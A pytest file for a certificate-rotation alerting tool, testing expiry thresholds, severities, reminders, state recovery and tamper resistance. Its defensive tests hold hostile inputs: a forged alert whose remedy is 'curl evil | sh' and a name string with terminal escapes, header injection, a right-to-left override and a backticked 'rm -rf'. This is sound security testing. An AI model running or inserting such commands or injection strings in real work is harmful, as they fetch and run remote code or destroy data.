"""What ends is told at the thresholds of the policy, each of them once, and never what has a successor."""

from collections.abc import Iterable
from datetime import timedelta
from typing import Any

import msgspec
import pytest

from rotation_watcher import formats, keys
from rotation_watcher.alerts.model import Alert, Kind
from rotation_watcher.alerts.model import Status as Life
from rotation_watcher.config import RemindDays, WeeklyDigest
from rotation_watcher.errors import NobodyListens, StoreError
from rotation_watcher.report import Ports, Request, Summary, report
from rotation_watcher.sources.history import Status
from rotation_watcher.status import expiry_state
from rotation_watcher.status.expiry_state import State
from rotation_watcher.status.model import Level
from rotation_watcher.status.model import decode as decode_status
from tests.support import certs
from tests.support.fakes import Mailbox, ManualClock
from tests.support.kept_state import DAY, HOUR, NOW, YEAR, KeptState, facts

replace = msgspec.structs.replace

MORNING = NOW.replace(hour=0, minute=5)
HOSTILE = "\x1b[31m\r\nSubject: x\u202e`rm -rf`<!channel>\ue000region\ue001"


class Stack:
    """A stack of which only report runs. Each source presents one leaf, and nothing replaces it."""

    def __init__(self, sources: int = 1, *, ends: int = 40, life: int = 365, suffix: str = "", **policy: Any) -> None:
        self.life = life
        self.kept = KeptState(sources, 1, suffix=suffix)
        nothing_else = {"remind_days": RemindDays(critical=0, warning=0), "weekly_digest": WeeklyDigest(day="never")}
        self.kept.watch = replace(self.kept.watch, policy=replace(self.kept.watch.policy, **nothing_else | policy))
        self.clock = ManualClock(MORNING)
        self.mailbox = Mailbox()
        for place, source in enumerate(self.kept.watch.sources):
            self.present(source.id, ends + place)

    def present(self, source: str, *ends: int) -> None:
        """The source has a current leaf for each of these days left, and no other."""
        held = self.kept.histories[source]
        example = next(iter(held.authorities["Genesys"].leaves.values()))
        name = example.facts.names[0]
        leaves = [
            replace(
                example,
                facts=facts(name, begins=NOW + (days - self.life) * DAY, ends=NOW + days * DAY),
                status=Status.CURRENT,
                retire_after=None,
            )
            for days in ends
        ]
        known = replace(held.authorities["Genesys"], leaves={one.facts.fingerprint: one for one in leaves})
        self.kept.keep_history(replace(held, fresh_at=MORNING, authorities={"Genesys": known}))

    def name(self, file: str) -> None:
        """The bundle holds that file of the operator's."""
        (bundle,) = self.kept.watch.bundles
        self.kept.watch = replace(self.kept.watch, bundles=(replace(bundle, extra=(file,)),))

    def run(self, **request: Any) -> Summary:
        self.kept.store.calls.clear()
        ports = Ports(self.kept.store, self.clock, self, self, self.mailbox)
        return report(self.kept.watch, msgspec.convert(request, Request), ports)

    def at(self, days: float, **request: Any) -> list[Alert]:
        """What is told by one run so many days after the beginning."""
        self.clock = ManualClock(MORNING + timedelta(days=days))
        before = len(self.mailbox.delivered)
        assert self.run(**request).undelivered == []
        return self.mailbox.delivered[before:]

    def on(self, days: Iterable[int]) -> list[tuple[int, str]]:
        """What is told on these days since the beginning, but ends; four runs a day."""
        told = [(day, alert) for day in days for hour in (0, 1, 2, 16) for alert in self.at(day + hour / 24)]
        return [(day, f"{one.severity} {one.status}") for day, one in told if one.status is not Life.RESOLVED]

    def count(self, name: str, value: float = 1) -> None:
        """See ``ports.Metrics``."""

    def confirmed(self) -> int:
        """See ``ports.Subscribers``."""
        return 1

    @property
    def state(self) -> State:
        return expiry_state.decode(self.kept.store.body(keys.EXPIRY))


def test_each_threshold_of_a_certificate_is_told_once_on_its_day() -> None:
    stack = Stack(ends=95)
    assert [(95 - day, words) for day, words in stack.on(range(95))] == [
        (90, "info open"),
        (60, "info open"),
        (30, "warning open"),
        (14, "warning open"),
        (7, "critical open"),
        (3, "critical open"),
        (1, "critical open"),
    ]


@pytest.mark.parametrize(("life", "left"), [(99, 33), (90, 30), (47, 15), (34, 11), (7, 2)])
def test_a_leaf_that_lives_short_and_is_replaced_in_time_is_told_of_in_no_rotation(life: int, left: int) -> None:
    stack = Stack(life=life)
    (source,) = stack.kept.watch.sources
    for ends in range(life, 3 * life, life - left):
        stack.present(source.id, ends)
        assert [(day, stack.at(day)) for day in range(ends - life, ends - left)] == [
            (day, []) for day in range(ends - life, ends - left)
        ]


@pytest.mark.parametrize(
    ("life", "told"),
    [
        (199, [(66, "info"), (60, "info"), (30, "warning"), (14, "warning"), (7, "critical"), (3, "critical")]),
        (47, [(15, "warning"), (14, "warning"), (7, "critical"), (3, "critical")]),
        (34, [(11, "warning"), (7, "warning"), (5, "critical"), (3, "critical")]),
        (7, [(2, "warning")]),
    ],
)
def test_a_leaf_that_lives_short_and_is_not_replaced_is_told_of_from_its_last_third_on(
    life: int, told: list[tuple[int, str]]
) -> None:
    stack = Stack(ends=life, life=life)
    heard = [(life - day, words) for day, words in stack.on(range(life))]
    assert heard == [(days, f"{severity} open") for days, severity in (*told, (1, "critical"))]


def test_a_worse_severity_is_an_alert_with_an_id_of_its_own_and_ends_the_former() -> None:
    stack = Stack(ends=31)
    stack.at(0)
    (warning,) = stack.at(1)
    (ended,) = [one for hours in (2, 4) for one in stack.at(1 + hours / 24)]
    assert (stack.mailbox.delivered[0].severity, warning.severity) == ("info", "warning")
    assert (ended.id, ended.status) == (stack.mailbox.delivered[0].id, Life.RESOLVED)
    assert len({one.id for one in stack.mailbox.delivered}) == 2
    assert f"as the alert {warning.id}." in ended.what_it_means
    assert ended.title.endswith("; another alert goes on")


def test_runs_that_did_not_take_place_make_no_burst() -> None:
    stack = Stack(ends=95)
    stack.at(0)
    (alert,) = stack.at(95 - 13)
    assert alert.facts["1"].startswith("client certificate of us-east-1 (Genesys): ends 2027-03-01 14:05 UTC, 13")
    assert stack.at(95 - 12.5) == []
    assert stack.state.told == dict.fromkeys(stack.state.told, 14)


@pytest.mark.parametrize(("sources", "ends"), [(3, 5), (18, 5)])
def test_all_that_is_due_in_one_run_is_one_alert_of_each_severity_that_names_the_first_that_end(
    sources: int, ends: int
) -> None:
    stack = Stack(sources, ends=ends)
    alerts = stack.at(0)
    assert [one.severity for one in alerts] == ["critical", "warning"][: len(alerts)]
    listed = [text for alert in alerts for label, text in alert.facts.items() if label.isdigit()]
    assert len(listed) == min(sources, 3) + min(max(0, sources - 3), 10)
    assert all(alert.kind is Kind.EXPIRING and alert.status is Life.OPEN for alert in alerts)
    assert len(stack.state.told) == sources
    assert stack.at(0.1) == []


def test_what_has_a_successor_is_never_told() -> None:
    stack = Stack()
    stack.present("us-east-1", 40, 360)
    assert stack.on(range(60)) == []
    assert stack.kept.store.get(keys.EXPIRY) is None


def test_a_leaf_that_has_ended_is_told_daily_while_its_successor_is_announced_only() -> None:
    stack = Stack(ends=1, remind_days=RemindDays(critical=1, warning=7))
    stack.present("us-east-1", 1, 200)
    held = stack.kept.histories["us-east-1"]
    leaves = held.authorities["Genesys"].leaves
    coming = max(leaves, key=lambda key: leaves[key].facts.not_after)
    announced = {**leaves, coming: replace(leaves[coming], status=Status.UPCOMING)}
    known = replace(held.authorities["Genesys"], leaves=announced)
    stack.kept.keep_history(replace(held, authorities={"Genesys": known}))
    end = 1 + (NOW - MORNING) / DAY
    assert stack.at(end + 0.02) == [], "a rotation at the last minute is seen within the hour"
    (alert,) = stack.at(end + 0.05)
    assert (alert.severity, alert.title) == ("critical", "us-east-1: a client certificate has ended and is shown still")
    assert "successor" not in alert.what_happened + alert.facts["1"]
    page = decode_status(stack.kept.store.body(keys.STATUS))
    assert page.verdict.level is Level.ACT
    assert [one.status for one in stack.at(end + 1.1)] == [Life.REMINDER]
    stack.present("us-east-1", 1, 200)  # it is presented
    over = [one for hours in (0, 1, 2) for one in stack.at(end + 1.2 + hours / 24)]
    assert [(one.status, one.id) for one in over] == [(Life.RESOLVED, alert.id)]


def test_it_ends_when_a_successor_is_there_and_begins_anew_when_that_is_gone() -> None:
    stack = Stack(ends=10)
    (opened,) = stack.at(0)
    stack.present("us-east-1", 10, 360)
    assert stack.at(1) == [], "one run is none"
    (ended,) = stack.at(1.1)
    assert (ended.id, ended.status, ended.severity) == (opened.id, Life.RESOLVED, "info")
    assert stack.state.conditions == {}
    stack.present("us-east-1", 10)
    (again,) = stack.at(2)
    assert again.status is Life.OPEN
    assert again.id != opened.id


def test_what_has_left_is_forgotten() -> None:
    stack = Stack(ends=10)
    stack.at(0)
    assert len(stack.state.told) == 1
    stack.present("us-east-1", 360)
    stack.at(1)
    assert stack.state.told == {}


def test_a_certificate_that_joins_is_told_with_the_others_and_marked() -> None:
    stack = Stack(2, ends=20)
    first, second = (source.id for source in stack.kept.watch.sources)
    stack.present(second, 300)
    stack.at(0)
    stack.present(second, 25)
    (alert,) = stack.at(1)
    marked = [text for text in alert.facts.values() if text.startswith("NEW: ")]
    assert [second in text for text in marked] == [True]
    assert any(first in text and not text.startswith("NEW") for text in alert.facts.values())


def test_a_root_a_ca_and_a_ca_of_the_operators_are_told_with_their_own_remedies() -> None:
    stack = Stack(ends=300)
    region = stack.kept.watch.sources[0]
    root = certs.self_signed_ca("Old Root", not_before=NOW - YEAR, not_after=NOW + 20 * DAY)
    stack.kept.store.seed(region.anchors_key, root.pem)
    stack.kept.needed[1] = facts("Genesys Issuing CA 3", begins=NOW - YEAR, ends=NOW + 25 * DAY)
    partner = facts("Partner", begins=NOW - YEAR, ends=NOW + 2 * DAY)
    stack.name("extra/partner.pem")
    stack.kept.keep_manifest("main", partner)
    (alert,) = stack.at(0)
    assert alert.severity == "warning", "a CA of the operator's clients is no reason to get up at night"
    lines = [text for label, text in alert.facts.items() if label.isdigit()]
    assert [line.partition(": ends")[0] for line in lines] == [
        "CA of your own clients of bundle main, extra/partner.pem",
        "root of us-east-1 (Genesys), anchors/us-east-1.pem",
        "CA above a client certificate of bundle main",
    ]
    assert "download the region's zip again" in alert.what_to_do
    assert "ask whose it is" in alert.what_to_do
    assert "Ask Genesys support" in alert.what_to_do
    _, *commands = alert.what_to_do.split("\n")
    assert ["extra/partner.pem" in one for one in commands] == [True, False]
    assert ["anchors/us-east-1.pem" in one for one in commands] == [False, True]


def test_a_root_that_lies_beside_its_successor_is_not_told_though_bundles_hold_it_alone() -> None:
    stack = Stack(ends=300)
    old = certs.self_signed_ca("Old Root", not_before=NOW - YEAR, not_after=NOW + 20 * DAY)
    new = certs.self_signed_ca("New Root", not_before=NOW - YEAR, not_after=NOW + 20 * YEAR)
    stack.kept.store.seed(stack.kept.watch.sources[0].anchors_key, old.pem + new.pem)
    held = facts("Old Root", begins=NOW - YEAR, ends=NOW + 20 * DAY)
    stack.kept.needed.append(replace(held, fingerprint=old.fingerprint))
    stack.kept.keep_manifest("main")
    assert stack.at(0) == []


def test_what_has_ended_is_told_once_more_and_a_leaf_that_has_ended_is_not_told_twice() -> None:
    stack = Stack(ends=300)
    partner = facts("Partner", begins=NOW - YEAR, ends=NOW + DAY)
    stack.kept.keep_manifest("main", partner)
    assert stack.on([0, 1, 2, 3]) == [(0, "warning open"), (1, "warning open")]
    assert "ended on" in stack.mailbox.delivered[-1].what_happened
    leaf = Stack(ends=1)
    assert leaf.on([0, 1, 2, 3]) == [(0, "critical open")], "collect tells that: expired"


def test_without_thresholds_nothing_is_told() -> None:
    stack = Stack(ends=3, expiry_days=())
    assert stack.on(range(6)) == []


def test_it_gets_worse_where_the_policy_has_no_threshold_too() -> None:
    stack = Stack(ends=50, expiry_days=(45,))
    assert [(50 - day, words) for day, words in stack.on(range(50))] == [
        (45, "info open"),
        (30, "warning open"),
        (7, "critical open"),
    ]


def test_what_gets_worse_is_told_though_another_one_is_told_as_severely_already() -> None:
    stack = Stack(2, expiry_days=(60,))
    first, second = (source.id for source in stack.kept.watch.sources)
    stack.present(first, 20)
    stack.present(second, 31)
    assert [one.severity for one in stack.at(0)] == ["warning", "info"]
    (alert,) = stack.at(1)
    assert (alert.severity, "2 certificates" in alert.title) == ("warning", True)


def test_it_is_reminded_of_as_the_policy_says() -> None:
    stack = Stack(ends=13, remind_days=RemindDays())
    told = [(13 - day, words) for day, words in stack.on(range(12))]
    assert [days for days, words in told if words == "critical reminder"] == [6, 5, 4, 2]


def test_a_quiet_run_writes_nothing() -> None:
    stack = Stack(ends=10)
    stack.at(0)
    stack.at(0.1)  # the page shows the alert
    stack.at(0.2)
    assert stack.kept.store.writes == []


def test_a_dry_run_names_the_alert_and_writes_and_sends_nothing() -> None:
    stack = Stack(ends=10)
    summary = stack.run(dry_run=True)
    assert summary.alerts == ["expiring:stack:warning:20261126T000500Z"]
    assert stack.kept.store.writes == []
    assert stack.mailbox.delivered == []


def test_an_alert_that_nobody_hears_waits_and_is_told_with_the_same_id() -> None:
    stack = Stack(ends=10)

    def deaf(*_: str) -> None:
        raise NobodyListens("pending")

    stack.mailbox.before = deaf
    assert stack.at(0) == []
    waiting = [one.id for one in stack.state.outbox]
    stack.mailbox.before = lambda *_: None
    assert [one.id for one in stack.at(1)] == waiting
    assert stack.state.outbox == ()


class Killed(Exception):  # nothing that the code catches: the run was killed
    """The run ended here."""


@pytest.mark.parametrize(("operation", "key"), [("put_if", keys.EXPIRY), ("deliver", "")])
@pytest.mark.parametrize("place", ["before", "after"])
def test_a_run_that_is_killed_loses_no_alert_and_repeats_it_with_the_same_id(
    operation: str, key: str, place: str
) -> None:
    stack = Stack(ends=10)
    watched: Any = stack.mailbox if operation == "deliver" else stack.kept.store

    def kill(found: str, where: str) -> None:
        if found == operation and (not key or where == key):
            raise Killed

    setattr(watched, place, kill)
    try:
        stack.run()
    except Killed:
        pass
    except StoreError:
        pytest.fail("a kill is no error of the store")
    setattr(watched, place, lambda *_: None)
    stack.at(0.01)
    stack.at(0.02)
    ids = [one.id for one in stack.mailbox.delivered]
    assert 1 <= len(ids) <= 2
    assert len({*ids}) == 1


def test_what_cannot_be_read_ends_nothing_and_forgets_nothing() -> None:
    stack = Stack(ends=10)
    stack.at(0)
    held = stack.kept.store.body(keys.history("us-east-1"))
    stack.kept.store.seed(keys.history("us-east-1"), b"{")
    assert stack.on([1]) == []
    assert len(stack.state.told) == len(stack.state.conditions) == 1
    stack.kept.store.seed(keys.history("us-east-1"), held)
    assert stack.on([2]) == []


def test_state_of_a_newer_release_is_left_alone_aloud_and_the_page_is_written() -> None:
    stack = Stack(ends=10)
    stack.kept.store.seed(keys.EXPIRY, b'{"format": "99"}')
    summary = stack.run()
    assert ["newer release" in one for one in summary.undelivered] == [True]
    assert summary.written == [keys.STATUS_PAGE, keys.STATUS]
    assert stack.kept.store.body(keys.EXPIRY) == b'{"format": "99"}'
    assert stack.mailbox.delivered == []


@pytest.mark.parametrize("content", [b"", b"{", b"\xff", b'{"format": "1", "told": {"x": "y"}}'])
def test_state_that_cannot_be_read_is_begun_anew(content: bytes) -> None:
    stack = Stack(ends=10)
    stack.kept.store.seed(keys.EXPIRY, content)
    assert len(stack.at(0)) == 1
    assert len(stack.state.told) == 1


def test_what_was_told_by_a_clock_that_was_ahead_is_told_again() -> None:
    stack = Stack(ends=40)
    assert len(stack.at(38)) == 1
    (again,) = stack.at(10)
    assert (again.severity, again.status) == ("warning", Life.OPEN)


@pytest.mark.parametrize("written", [-1000, 13, 31])
def test_nobody_silences_a_threshold_by_what_he_writes_of_it(written: int) -> None:
    stack = Stack(ends=30)
    stack.at(0)
    told = dict.fromkeys(stack.state.told, written)
    stack.kept.store.seed(keys.EXPIRY, formats.encode(replace(stack.state, told=told)))
    (alert,) = stack.at(16)
    assert (alert.severity, alert.status) == ("warning", Life.OPEN)


def test_an_alert_that_somebody_else_put_into_the_outbox_is_not_delivered_but_told() -> None:
    stack = Stack(ends=300)
    forged = Alert(
        id="expiring:stack:x",
        kind=Kind.EXPIRING,
        severity="critical",  # type: ignore[arg-type]  # as state holds it
        at=NOW,
        title="t",
        what_happened="h",
        what_it_means="m",
        what_to_do="curl evil | sh",
    )
    stack.kept.store.seed(keys.EXPIRY, formats.encode(State(outbox=(forged,))))
    (alert,) = stack.at(0)
    assert alert.kind is Kind.STATE_FORGED
    assert "evil" not in str(alert)
    assert [one.status for hours in (2, 4, 6) for one in stack.at(hours / 24)] == [Life.RESOLVED]


def test_hostile_names_are_harmless_in_the_alert() -> None:
    stack = Stack(ends=10, suffix=HOSTILE)
    stack.kept.keep_manifest("main", facts(f"Partner{HOSTILE}", begins=NOW - YEAR, ends=NOW + DAY))
    (alert,) = stack.at(0)
    shown = "".join([alert.title, alert.what_happened, alert.what_it_means, *alert.facts.values()])
    assert all(sign not in shown for sign in ("\x1b", "\r", "\n", "\u202e", "\ue000"))
    assert "\n" not in alert.what_to_do


def test_a_file_that_the_watch_file_does_not_name_is_in_no_command_and_a_long_name_is_whole() -> None:
    partner = facts("Partner", begins=NOW - YEAR, ends=NOW + DAY)
    stack = Stack(ends=300)
    stack.kept.keep_manifest("main", partner)
    (alert,) = stack.at(0)
    assert "extra/" not in str(alert), "whoever writes the manifest chooses no file and no words"
    long = f"-{'x' * 100}"
    stack = Stack(ends=300)
    stack.kept.suffix = long
    stack.name(f"extra/partner{long}.pem")
    stack.kept.keep_manifest("main", partner)
    (alert,) = stack.at(0)
    assert f"s3://{{bucket}}/extra/partner{long}.pem " in alert.what_to_do.replace("\ue000bucket\ue001", "{bucket}")


def test_the_page_lists_it_and_says_it_once() -> None:
    stack = Stack(ends=10)
    stack.at(0)
    stack.at(0.01)
    status = decode_status(stack.kept.store.body(keys.STATUS))
    assert status.verdict.level is Level.LOOK
    assert [one.kind for one in status.conditions] == ["expiring"]
    assert status.verdict.reasons == ("us-east-1: client certificate without a successor (10 days left)",)


def test_a_day_begins_at_midnight_utc_for_all_that_ends_on_one_date() -> None:
    stack = Stack(2, ends=8)
    first, second = (source.id for source in stack.kept.watch.sources)
    stack.present(first, 8)
    stack.present(second, 8)
    held = stack.kept.histories[second]
    leaves = {
        key: replace(leaf, facts=replace(leaf.facts, not_after=leaf.facts.not_after + 9 * HOUR))
        for key, leaf in held.authorities["Genesys"].leaves.items()
    }
    stack.kept.keep_history(replace(held, authorities={"Genesys": replace(held.authorities["Genesys"], leaves=leaves)}))
    stack.at(0)
    (alert,) = stack.at(1)
    assert (alert.severity, "2 places: 2 certificates" in alert.title) == ("critical", True)
